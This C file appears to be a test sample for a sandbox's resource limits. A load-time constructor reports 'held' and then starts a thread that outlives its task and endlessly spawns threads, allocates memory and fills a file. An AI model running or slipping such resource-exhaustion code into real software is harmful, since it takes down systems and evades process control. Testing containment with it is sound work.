/*
 * Lets its task end at once, and goes on: it takes 32 MiB, starts 50 threads and writes 1 MiB in each round, without end. It writes "held" to the file
 * $ATTACK_REPORT first.
 */
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB (1024L * 1024)

static char folder[4096];

static void *sleep_on(void *nothing) {
  for (;;) pause();
  return nothing;
}

static void *go_on(void *nothing) {
  char path[4200];
  pthread_attr_t small;
  pthread_t thread;
  pthread_attr_init(&small);
  pthread_attr_setstacksize(&small, PTHREAD_STACK_MIN);
  snprintf(path, sizeof path, "%s/more", folder);
  for (;;) {
    for (int i = 0; i < 50; i += 1) pthread_create(&thread, &small, sleep_on, NULL);
    char *pages = malloc(32 * MIB);
    if (pages != NULL) memset(pages, 1, 32 * MIB);
    FILE *file = fopen(path, "a");
    if (file == NULL) continue;
    fwrite(folder, 1, sizeof folder, file);
    for (int i = 0; pages != NULL && i < 32; i += 1) fwrite(pages, 1, MIB / 32, file);
    fclose(file);
  }
  return nothing;
}

__attribute__((constructor)) static void attack(void) {
  pthread_t thread;
  snprintf(folder, sizeof folder, "%s", getenv("ATTACK_OUTBOX"));
  FILE *report = fopen(getenv("ATTACK_REPORT"), "w");
  fprintf(report, "held\n");
  fclose(report);
  pthread_create(&thread, NULL, go_on, NULL);
}
